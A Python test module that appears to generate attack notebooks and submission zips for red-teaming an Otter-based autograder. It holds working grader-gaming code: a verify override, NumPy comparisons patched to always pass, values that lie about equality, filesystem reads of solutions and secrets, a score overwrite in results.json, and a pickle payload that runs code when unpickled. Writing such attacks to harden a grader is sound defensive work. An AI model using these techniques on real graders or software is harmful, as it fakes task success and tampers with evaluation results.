"""Notebook-level attacks on the otter autograder zips, generated from the blank templates.

Each attack is the blank template of an assignment plus cells a clever student would add:
replace ``verify``, execute the solutions shipped in the zip, patch NumPy's comparisons,
return values that lie about equality, read (and try to write) every file around the
notebook, and raise, from the functions the public tests call, an exception carrying
whatever secret could be read. ``submission_zip`` adds, next to the notebook, a
``.OTTER_LOG`` that otter itself would unpickle and a fake engine folder.

``python -m tests.otter_attacks OUT`` writes every attack notebook (and zip) into OUT.
"""

from __future__ import annotations

import io
import pickle
import re
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import nbformat

from autograder.course import Project
from autograder.sample_class import SOLUTION_TAG, master_answers

ASSIGNMENTS = ("backprop_miniconv", "sgd_batch_size", "mlp_softmax")
SECRET_PATH = re.compile(
    r"(solutions/|/checks/|assignments/|public_tests|otter_config|tests/|\.ipynb$)"
)


def template_functions(template: nbformat.NotebookNode) -> list[str]:
    """The contract functions the template asks for (``def name(`` in its code cells)."""
    code = "\n".join(c.source for c in template.cells if c.cell_type == "code")
    return list(dict.fromkeys(re.findall(r"^def (\w+)\(", code, re.M)))


def _override_verify(assignment: str, functions: list[str]) -> list[str]:
    return [
        "import sys, types\n"
        "def verify(*args, **kwargs):\n"
        "    return None\n"
        "try:\n"
        "    import autograder.otter_bridge as _bridge\n"
        "except Exception:\n"
        "    _bridge = types.ModuleType('autograder.otter_bridge')\n"
        "    _package = types.ModuleType('autograder')\n"
        "    _package.__path__ = []\n"
        "    _package.otter_bridge = _bridge\n"
        "    sys.modules.update({'autograder': _package, 'autograder.otter_bridge': _bridge})\n"
        "_bridge.verify = verify\n"
    ]


EXEC_SOLUTIONS = (
    "import glob, importlib\n"
    "_patterns = {patterns!r}\n"
    "_found = [p for pattern in _patterns for p in glob.glob(pattern, recursive=True)]\n"
    "for _path in _found:\n"
    "    try:\n"
    "        exec(compile(open(_path).read(), _path, 'exec'), globals())\n"
    "    except Exception as error:\n"
    "        print('could not exec', _path, error)\n"
    "try:\n"
    "    _reference = importlib.import_module('solutions.{assignment}')\n"
    "    globals().update({{k: v for k, v in vars(_reference).items() if not k.startswith('_')}})\n"
    "except Exception as error:\n"
    "    print('no solutions package:', error)\n"
)


def _exec_solutions_notebook(project: Project, assignment: str) -> nbformat.NotebookNode:
    """The template where the first function blank executes whatever solution file it finds,
    the other function blanks are emptied, and the other blanks hold the master's answers
    (``table = ...``), as a student who found the reference would hand it in."""
    patterns = [
        f"solutions/{assignment}.py",
        f"*/solutions/{assignment}.py",
        f"../*/solutions/{assignment}.py",
        f"../source/files/**/solutions/{assignment}.py",
        f"/autograder/**/solutions/{assignment}.py",
        f"/tmp/**/solutions/{assignment}.py",
    ]
    template = nbformat.read(project.template(assignment), as_version=4)
    answers = master_answers(assignment, project)
    blanks = [c for c in template.cells if SOLUTION_TAG in c.metadata.get("tags", [])]
    first = True
    for index, cell in enumerate(blanks):
        if re.search(r"^def \w+\(", cell.source, re.M):
            cell.source = (
                EXEC_SOLUTIONS.format(patterns=patterns, assignment=assignment) if first else ""
            )
            first = False
        elif index < len(answers):
            cell.source = answers[index]
    return template


def _patch_numpy(assignment: str, functions: list[str]) -> list[str]:
    return [
        "import math\n"
        "import numpy as np\n"
        "import numpy.testing\n"
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda a, *r, **k: np.ones(np.shape(a), dtype=bool)\n"
        "np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.testing.assert_array_almost_equal = lambda *a, **k: None\n"
        "np.testing.assert_equal = lambda *a, **k: None\n"
        "math.isclose = lambda *a, **k: True\n"
    ]


def _lying_values(assignment: str, functions: list[str]) -> list[str]:
    liar = (
        "import numpy as np\n"
        "class _Liar(float):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    def __gt__(self, other): return True\n"
        "    def __abs__(self): return _Liar(0.0)\n"
        "    def __sub__(self, other): return _Liar(0.0)\n"
        "    __rsub__ = __sub__\n"
        "    __hash__ = float.__hash__\n"
        "    def __float__(self): return 0.0\n"
    )
    defs = "".join(f"def {name}(*args, **kwargs):\n    return _Liar(0.0)\n" for name in functions)
    return [
        liar
        + defs
        + "table = {1: (_Liar(0.0), _Liar(0.0)), 2: (_Liar(0.0), _Liar(0.0)), 4: (_Liar(0.0), _Liar(0.0))}\n"
    ]


_READ_AROUND = (
    "import os\n"
    "_readable = {}\n"
    "for _root in ['.', '..', '../source', '../submission', '/autograder', '/tmp']:\n"
    "    _count = 0\n"
    "    for _dir, _subdirs, _files in os.walk(_root):\n"
    "        for _file in _files:\n"
    "            _count += 1\n"
    "            if _count > 3000:\n"
    "                break\n"
    "            _path = os.path.join(_dir, _file)\n"
    "            try:\n"
    "                with open(_path, errors='replace') as _handle:\n"
    "                    _readable[_path] = _handle.read(100_000)\n"
    "            except Exception:\n"
    "                pass\n"
    "for _target in ['../results/results.json', '/autograder/results/results.json',\n"
    "                '../source/otter_config.json']:\n"
    "    try:\n"
    "        with open(_target, 'w') as _handle:\n"
    '            _handle.write(\'{"score": 1000, "tests": []}\')\n'
    "    except Exception:\n"
    "        pass\n"
    "import sys\n"
    "_python = tuple(os.path.realpath(p) + '/' for p in {sys.prefix, sys.base_prefix})\n"
    "_ours = __import__('re').compile(r'/(solutions|autograder)/')\n"
    f"_secret = sorted(p for p in _readable if __import__('re').search({SECRET_PATH.pattern!r}, p)\n"
    "                  and (_ours.search(p) or not os.path.realpath(p).startswith(_python)))\n"
    "for _path in _secret:\n"
    "    print(_path, _readable[_path])\n"
)


def _read_neighbours(assignment: str, functions: list[str]) -> list[str]:
    return [_READ_AROUND + "raise RuntimeError('READABLE:' + ';'.join(_secret) + '|')\n"]


def _leak_through_public_tests(assignment: str, functions: list[str]) -> list[str]:
    leak = (
        "import inspect, sys\n"
        "def _leak():\n"
        "    frames = []\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        try:\n"
        "            frames.append(inspect.getsource(frame.f_code))\n"
        "        except Exception:\n"
        "            frames.append(frame.f_code.co_filename)\n"
        "        frame = frame.f_back\n"
        "    contents = ''.join(_readable[p] for p in _secret)\n"
        "    return 'READABLE:' + ';'.join(_secret) + '|' + contents + '\\n'.join(frames)\n"
    )
    defs = "".join(
        f"def {name}(*args, **kwargs):\n    raise RuntimeError(_leak())\n" for name in functions
    )
    return [_READ_AROUND + leak + defs]


ATTACKS: dict[str, Callable[[str, list[str]], list[str]]] = {
    "override_verify": _override_verify,
    "patch_numpy": _patch_numpy,
    "lying_values": _lying_values,
    "read_neighbours": _read_neighbours,
    "leak_through_public_tests": _leak_through_public_tests,
}


KINDS = ("exec_solutions", *ATTACKS)


def attack_notebook(project: Project, assignment: str, kind: str) -> nbformat.NotebookNode:
    """The blank template of ``assignment`` with the cells of attack ``kind`` appended."""
    if kind == "exec_solutions":
        return _exec_solutions_notebook(project, assignment)
    template = nbformat.read(project.template(assignment), as_version=4)
    functions = template_functions(template)
    for source in ATTACKS[kind](assignment, functions):
        template.cells.append(nbformat.v4.new_code_cell(source))
    return template


class _Payload:
    """Unpickled by otter if it ever reads the ``.OTTER_LOG``: creates the marker file."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def submission_zip(project: Project, assignment: str, marker: Path) -> bytes:
    """A blank notebook with a ``.OTTER_LOG`` that otter would unpickle and a fake engine."""
    fake_report = (
        "import json, sys\n"
        "def main(argv):\n"
        "    print(json.dumps({'version': 1, 'status': 'graded', 'message': 'fake',\n"
        "                      'isolation': 'none', 'questions': []}))\n"
        "    return 0\n"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        template = nbformat.read(project.template(assignment), as_version=4)
        archive.writestr(f"{assignment}.ipynb", nbformat.writes(template))
        archive.writestr(".OTTER_LOG", pickle.dumps(_Payload(str(marker))))
        archive.writestr("dlgrade/autograder/__init__.py", "")
        archive.writestr("dlgrade/autograder/otter_engine.py", fake_report)
        archive.writestr("autograder/__init__.py", "")
        archive.writestr("autograder/otter_run.py", "raise SystemExit('fake plugin')\n")
    return buffer.getvalue()


def main(out: str) -> None:
    project = Project.default()
    folder = Path(out)
    folder.mkdir(parents=True, exist_ok=True)
    for assignment in ASSIGNMENTS:
        for kind in KINDS:
            path = folder / f"{assignment}-{kind}.ipynb"
            nbformat.write(attack_notebook(project, assignment, kind), path)
        marker = folder / f"{assignment}-otter-log-was-unpickled"
        (folder / f"{assignment}-submission_zip.zip").write_bytes(
            submission_zip(project, assignment, marker)
        )


if __name__ == "__main__":
    main(sys.argv[1])
